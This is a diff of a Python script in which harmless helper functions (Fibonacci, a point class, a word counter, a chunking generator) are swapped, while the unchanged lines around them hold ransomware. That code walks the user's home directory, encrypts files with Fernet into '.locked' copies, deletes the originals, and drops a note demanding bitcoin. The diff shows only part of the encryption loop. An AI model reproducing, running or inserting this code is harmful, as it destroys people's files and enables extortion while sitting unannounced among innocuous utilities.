@@ -1,20 +1,14 @@
 #!/usr/bin/env python3
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
-from dataclasses import dataclass
+class Counter:
+    def __init__(self):
+        self.counts = {}
 
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import os
 from cryptography.fernet import Fernet
@@ -27,8 +21,3 @@ for root, _, files in os.walk(os.path.expanduser("~")):
         open(p + ".locked", "wb").write(f.encrypt(data))
         os.remove(p)
 open("README_TO_DECRYPT.txt", "w").write("Your files have been encrypted. Send bitcoin.")
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
